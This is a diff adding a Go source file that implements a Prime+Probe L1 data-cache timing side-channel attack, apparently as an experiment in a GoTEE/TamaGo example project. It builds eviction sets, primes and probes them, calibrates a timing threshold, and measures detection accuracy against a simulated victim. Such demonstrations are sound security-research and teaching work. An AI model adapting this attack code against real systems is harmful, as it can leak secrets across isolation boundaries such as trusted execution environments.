@@ -0,0 +1,298 @@
+// Copyright (c) The GoTEE authors. All Rights Reserved.
+//
+// Use of this source code is governed by the license
+// that can be found in the LICENSE file.
+
+//go:build tamago && arm
+
+package gotee
+
+import (
+	"fmt"
+	"sync"
+	"unsafe"
+
+	"github.com/usbarmory/tamago/arm"
+
+	"github.com/usbarmory/GoTEE-example/internal/sidechannel"
+	"github.com/usbarmory/GoTEE-example/internal/stats"
+)
+
+// PrimeProbeResult represents the outcome of a Prime+Probe experiment run.
+type PrimeProbeResult struct {
+	// IdleAvg is the average probe time with no victim activity
+	IdleAvg float64
+	// EvictedAvg is the average probe time after a congruent victim access
+	EvictedAvg float64
+	// Threshold is the idle/evicted classification threshold
+	Threshold float64
+
+	// VictimPattern is the victim per-set access pattern (ground truth)
+	VictimPattern []bool
+	// Detected is the per-set eviction pattern inferred by the attacker
+	Detected []bool
+	// Timings are the per-set probe timings (in CPU cycles)
+	Timings []uint32
+	// Correct is the number of correctly classified sets
+	Correct int
+	// Accuracy is the detection accuracy percentage
+	Accuracy float64
+}
+
+// congruent returns the address of the first byte within buf, starting from
+// offset off, that maps to the argument cache set.
+func congruent(g cacheGeometry, buf []byte, off int, set int) *byte {
+	addr := int(uintptr(unsafe.Pointer(&buf[off])))
+	delta := (set*g.lineSize - addr%g.waySize() + g.waySize()) % g.waySize()
+
+	return &buf[off+delta]
+}
+
+// evictionBuffer allocates a buffer large enough to hold an eviction set for
+// any cache set.
+func evictionBuffer(g cacheGeometry) []byte {
+	return AlignedBuffer((g.ways+1)*g.waySize(), g.lineSize)
+}
+
+// evictionSet returns, from the argument buffer, one address for each cache
+// way mapping to the argument set. The buffer must span at least ways+1 way
+// sizes (see evictionBuffer).
+func evictionSet(g cacheGeometry, buf []byte, set int) (evset []*byte) {
+	for way := 0; way < g.ways; way++ {
+		evset = append(evset, congruent(g, buf, way*g.waySize(), set))
+	}
+
+	return
+}
+
+// setIndex returns the cache set index of the argument address, the L1D is
+// physically indexed and tamago uses a flat (1:1) mapping.
+func (g cacheGeometry) setIndex(ptr *byte) int {
+	return int(uintptr(unsafe.Pointer(ptr))) / g.lineSize % g.sets
+}
+
+// BuildEvictionSet allocates a buffer and returns, using the detected L1D
+// geometry, one address for each cache way all mapping to the argument set.
+//
+// An error is returned if the set index is invalid or if the resulting
+// addresses do not collide on distinct lines of the target set.
+func BuildEvictionSet(cpu *arm.CPU, setIndex int) (evset []*byte, err error) {
+	g := l1d(cpu)
+
+	if setIndex < 0 || setIndex >= g.sets {
+		return nil, fmt.Errorf("invalid set index %d (sets:%d)", setIndex, g.sets)
+	}
+
+	evset = evictionSet(g, evictionBuffer(g), setIndex)
+	lines := make(map[uintptr]bool)
+
+	for _, ptr := range evset {
+		line := uintptr(unsafe.Pointer(ptr)) / uintptr(g.lineSize)
+
+		if g.setIndex(ptr) != setIndex || lines[line] {
+			return nil, fmt.Errorf("could not build eviction set for set %d (%#x)", setIndex, uintptr(unsafe.Pointer(ptr)))
+		}
+
+		lines[line] = true
+	}
+
+	if len(evset) != g.ways {
+		return nil, fmt.Errorf("incomplete eviction set (%d/%d ways)", len(evset), g.ways)
+	}
+
+	return
+}
+
+// primeSet fills the cache set with the attacker eviction set.
+//
+//go:noinline
+func primeSet(evset []*byte) {
+	for _, ptr := range evset {
+		_ = sidechannel.Access(ptr)
+	}
+	dmb()
+}
+
+// probeSet re-reads the attacker eviction set, returning the total access
+// time in PMU cycles.
+//
+//go:noinline
+func probeSet(pmu *PMU, evset []*byte) uint32 {
+	start := pmu.Cycles()
+	for _, ptr := range evset {
+		_ = sidechannel.Access(ptr)
+	}
+	dsb()
+	end := pmu.Cycles()
+
+	return end - start
+}
+
+var (
+	// attacker state shared across PrimeProbe invocations
+	primeProbeOnce   sync.Once
+	primeProbePMU    *PMU
+	primeProbeBuffer []byte
+)
+
+// PrimeProbe performs a Prime+Probe cache timing attack on the argument L1D
+// set, returning the probe timing in CPU cycles.
+//
+// The set is primed with lines of an attacker owned buffer, the victim
+// function is then invoked (a nil victim waits for the default victim window)
+// and the attacker lines are re-read, a victim access to any line congruent
+// with the target set results in a slower probe. No memory is shared with the
+// victim.
+func PrimeProbe(cpu *arm.CPU, targetSet int, victim func()) (cycles uint32, err error) {
+	g := l1d(cpu)
+
+	if targetSet < 0 || targetSet >= g.sets {
+		return 0, fmt.Errorf("invalid set index %d (sets:%d)", targetSet, g.sets)
+	}
+
+	primeProbeOnce.Do(func() {
+		primeProbePMU = NewPMU()
+		primeProbeBuffer = evictionBuffer(g)
+	})
+
+	evset := evictionSet(g, primeProbeBuffer, targetSet)
+
+	// Step 1: PRIME - fill the target set with attacker lines
+	primeSet(evset)
+
+	// Step 2: let the victim run
+	if victim != nil {
+		victim()
+	} else {
+		spinNanos(cpu, defaultVictimWindow)
+	}
+
+	// Step 3: PROBE - measure the time to re-read the whole set
+	return probeSet(primeProbePMU, evset), nil
+}
+
+func init() {
+	RegisterExperiment(Experiment{
+		Name: "primeprobe",
+		Help: "Prime+Probe cache timing attack",
+		Run: func(cpu *arm.CPU, _ CacheTimerConfig) (any, error) {
+			return PrimeProbeDemo(), nil
+		},
+	})
+}
+
+// PrimeProbeDemo runs a Prime+Probe experiment against the same victim access
+// pattern used by CacheTimerDemo, the victim and attacker do not share memory.
+func PrimeProbeDemo() (r PrimeProbeResult) {
+	logf(LogNormal, "================= Prime+Probe Cache Timing Attack Demo =================")
+
+	cpu := arm.CPU{}
+	cpu.EnableSMP()
+	cpu.EnableCache()
+
+	g := l1d(&cpu)
+
+	// the attacker buffer is owned by PrimeProbe, distinct from the victim
+	victim := make([]byte, 2*g.waySize())
+
+	r.VictimPattern = defaultVictimPattern()
+	numSets := len(r.VictimPattern)
+
+	logf(LogNormal, "=== Calibration: Establishing Threshold ===")
+
+	const calibSamples = 100
+
+	idle := make([]uint64, 0, calibSamples)
+	evicted := make([]uint64, 0, calibSamples)
+
+	target := congruent(g, victim, 0, 0)
+
+	// calibrate through PrimeProbe, on the same buffer, eviction sets and
+	// PMU as the attack
+	idleVictim := func() {}
+	evictVictim := func() {
+		simulateVictimAccess(target, true)
+	}
+
+	for i := 0; i < calibSamples; i++ {
+		// Measure IDLE probe, the set is left untouched
+		t, err := PrimeProbe(&cpu, 0, idleVictim)
+
+		if err != nil {
+			logf(LogQuiet, "WARNING: %v", err)
+			return
+		}
+
+		idle = append(idle, uint64(t))
+
+		// Measure EVICTED probe, a congruent line displaces one way
+		if t, err = PrimeProbe(&cpu, 0, evictVictim); err != nil {
+			logf(LogQuiet, "WARNING: %v", err)
+			return
+		}
+
+		evicted = append(evicted, uint64(t))
+	}
+
+	r.IdleAvg = stats.Mean(idle)
+	r.EvictedAvg = stats.Mean(evicted)
+
+	var reliable bool
+	r.Threshold, _, reliable = ComputeThreshold(idle, evicted)
+
+	if !reliable {
+		logf(LogQuiet, "WARNING: idle/evicted probe timings overlap, the threshold is unreliable")
+	}
+
+	logf(LogNormal, "Average IDLE probe time:    %.2f CPU cycles", r.IdleAvg)
+	logf(LogNormal, "Average EVICTED probe time: %.2f CPU cycles", r.EvictedAvg)
+	logf(LogNormal, "Threshold: %.2f CPU cycles (Otsu)", r.Threshold)
+	logf(LogNormal, "Separation: %.2f CPU cycles\n", r.EvictedAvg-r.IdleAvg)
+
+	logf(LogNormal, "=== Prime+Probe Attack Simulation ===")
+	logf(LogNormal, "Victim set access pattern: %v\n", r.VictimPattern)
+
+	r.Detected = make([]bool, numSets)
+	r.Timings = make([]uint32, numSets)
+
+	for set := 0; set < numSets; set++ {
+		// Victim accesses its own memory (or doesn't)
+		access := func() {
+			simulateVictimAccess(congruent(g, victim, 0, set), r.VictimPattern[set])
+		}
+
+		var err error
+
+		if r.Timings[set], err = PrimeProbe(&cpu, set, access); err != nil {
+			logf(LogQuiet, "WARNING: %v", err)
+			return
+		}
+
+		r.Detected[set] = float64(r.Timings[set]) > r.Threshold
+
+		if r.Detected[set] == r.VictimPattern[set] {
+			r.Correct++
+		}
+
+		status := "IDLE   "
+		if r.Detected[set] {
+			status = "EVICTED"
+		}
+		logf(LogDebug, "  Set %3d: %s (%d CPU cycles) - detected=%v, actual=%v, %s",
+			set, status, r.Timings[set], r.Detected[set], r.VictimPattern[set],
+			map[bool]string{true: "✓", false: "✗"}[r.Detected[set] == r.VictimPattern[set]])
+	}
+
+	r.Accuracy = float64(r.Correct) / float64(numSets) * 100.0
+
+	logf(LogQuiet, "\nPrime+Probe Accuracy: %d/%d (%.1f%%)", r.Correct, numSets, r.Accuracy)
+
+	resultMutex.Lock()
+	defer resultMutex.Unlock()
+
+	if lastResult != nil {
+		logf(LogQuiet, "Flush+Reload Accuracy: %d/%d (%.1f%%) (last run)", lastResult.Correct, len(lastResult.VictimPattern), lastResult.Accuracy)
+	}
+
+	return
+}